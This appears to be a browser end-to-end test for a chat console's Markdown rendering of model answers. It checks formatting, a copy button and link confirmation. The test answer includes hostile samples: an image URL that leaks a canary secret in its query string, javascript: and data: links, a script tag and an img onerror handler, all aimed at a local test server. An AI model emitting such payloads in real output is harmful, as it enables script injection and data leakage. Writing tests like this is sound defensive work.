// Answers as Markdown, with hostile output: nothing remote is fetched, nothing runs, links ask first.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { ask, setUpChat } from './chat-setup.js';
import { openConsole, screenshot, type Console } from './harness.js';
import { startModelServer, type ModelServer } from './model-server.js';

let c: Console | null = null;
let model: ModelServer | null = null;
let counter: http.Server | null = null;
afterEach(async () => {
  await c?.close();
  await model?.close();
  await new Promise((r) => (counter ? counter.close(r) : r(null)));
  c = model = counter = null;
});

/** A real loopback HTTP server that counts the requests for each path. */
async function countingServer(): Promise<{ base: string; hits: Map<string, number> }> {
  const hits = new Map<string, number>();
  counter = http.createServer((req, res) => {
    const p = (req.url ?? '').split('?')[0]!;
    hits.set(p, (hits.get(p) ?? 0) + 1);
    res.writeHead(200, { 'content-type': p.endsWith('.png') ? 'image/png' : 'text/html' }).end('ok');
  });
  await new Promise<void>((r) => counter!.listen(0, '127.0.0.1', r));
  return { base: `http://127.0.0.1:${(counter.address() as AddressInfo).port}`, hits };
}

const CANARY = 'OTTERCANARY7713';

describe('answers as Markdown', () => {
  it('renders headings, lists, tables and code with a copy button; a remote image is never requested; a link opens only after confirming', async () => {
    const remote = await countingServer();
    model = await startModelServer();
    c = await openConsole();
    const { page, context } = c;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(c.host.url).origin });
    await setUpChat(page, model, CANARY);
    model.answer(
      [
        '## Renewal summary',
        '',
        'The contract **renews** each *March* [S1].',
        '',
        '- first point',
        '- second point',
        '',
        '| Term | Value |',
        '| --- | --- |',
        '| Renewal | March |',
        '| Notice | 30 days |',
        '',
        '```js',
        'const renewal = "March";',
        '```',
        '',
        `![chart](${remote.base}/pixel.png?d=${CANARY})`,
        '',
        `See [the report](${remote.base}/report) or [this](javascript:document.title='pwned') or [that](data:text/html,hi).`,
        '',
        `<script>document.title='pwned'</script><img src="${remote.base}/raw.png" onerror="document.title='pwned'">`,
      ].join('\n'),
      5,
    );
    await ask(page, 'Summarise the renewal.');
    const answer = page.getByTestId('answer').last();
    await answer.getByTestId('citation-inline').first().waitFor({ timeout: 20_000 });
    expect(await answer.locator('h2').innerText()).toBe('Renewal summary');
    expect(await answer.locator('strong').innerText()).toBe('renews');
    expect(await answer.locator('em').innerText()).toBe('March');
    expect(await answer.locator('ul > li').allInnerTexts()).toEqual(['first point', 'second point']);
    expect(await answer.locator('table th').allInnerTexts()).toEqual(['Term', 'Value']);
    expect(await answer.locator('table td').allInnerTexts()).toEqual(['Renewal', 'March', 'Notice', '30 days']);
    const code = answer.locator('pre code');
    expect(await code.innerText()).toBe('const renewal = "March";');
    expect(
      await code.evaluate((el) => (globalThis as unknown as { getComputedStyle(e: unknown): { fontFamily: string } }).getComputedStyle(el).fontFamily),
    ).toMatch(/mono/i);
    // Nothing remote and nothing raw: no <img>, no <script>, no handler; the raw HTML shows as text.
    expect(await answer.locator('img, script, iframe, [onerror], [href], [src], [style]').count()).toBe(0);
    expect(await answer.innerText()).toContain('<script>');
    expect(await answer.innerText()).toContain(`${remote.base}/pixel.png`);
    expect(await page.title()).toBe('Bulkhead');
    await screenshot(page, '20-markdown-answer');

    // The copy button puts the code on the clipboard.
    await answer.getByRole('button', { name: 'Copy' }).click();
    await expect.poll(() => answer.locator('.copy-code').innerText()).toBe('Copied');
    // The page may not read the clipboard (permissions policy): paste it where a user would.
    await page.getByLabel('Question').fill('');
    await page.getByLabel('Question').focus();
    await page.keyboard.press('Control+V');
    expect(await page.getByLabel('Question').inputValue()).toBe('const renewal = "March";');
    await page.getByLabel('Question').fill('');

    // javascript: and data: links are plain text, not links.
    expect(await answer.locator('.ext-link').allInnerTexts()).toEqual(['image: chart', 'the report']);
    await answer.getByText('this', { exact: true }).click();
    expect(await page.locator('dialog[open]').count()).toBe(0);

    // A link: the dialog shows its real target; Cancel opens nothing; Open opens it outside the app.
    await answer.locator('.ext-link', { hasText: 'the report' }).click();
    expect(await page.getByTestId('link-target').innerText()).toBe(`${remote.base}/report`);
    await screenshot(page, '21-markdown-link-confirm');
    await page.getByRole('button', { name: 'Cancel' }).click();
    await new Promise((r) => setTimeout(r, 500));
    expect(remote.hits.get('/report') ?? 0).toBe(0);
    const popup = context.waitForEvent('page');
    await answer.locator('.ext-link', { hasText: 'the report' }).click();
    await page.getByRole('button', { name: 'Open link' }).click();
    const opened = await popup;
    await expect.poll(() => remote.hits.get('/report') ?? 0).toBe(1);
    expect(opened.url()).toBe(`${remote.base}/report`);
    // No opener: the opened page cannot reach back into the console.
    expect(await opened.evaluate(() => (globalThis as unknown as { opener: unknown }).opener === null)).toBe(true);
    await opened.close();

    // The image link, too, only asks; the picture itself was never fetched, nor the raw <img>.
    await answer.locator('.ext-link', { hasText: 'image: chart' }).click();
    expect(await page.getByTestId('link-target').innerText()).toBe(`${remote.base}/pixel.png?d=${CANARY}`);
    await page.getByRole('button', { name: 'Cancel' }).click();
    expect(remote.hits.get('/pixel.png') ?? 0).toBe(0);
    expect(remote.hits.get('/raw.png') ?? 0).toBe(0);

    // Citation chips stay clickable.
    await answer.getByTestId('citation-inline').first().click();
    await expect.poll(() => page.getByTestId('passage-drawer').innerText()).toContain(CANARY);
  });
});
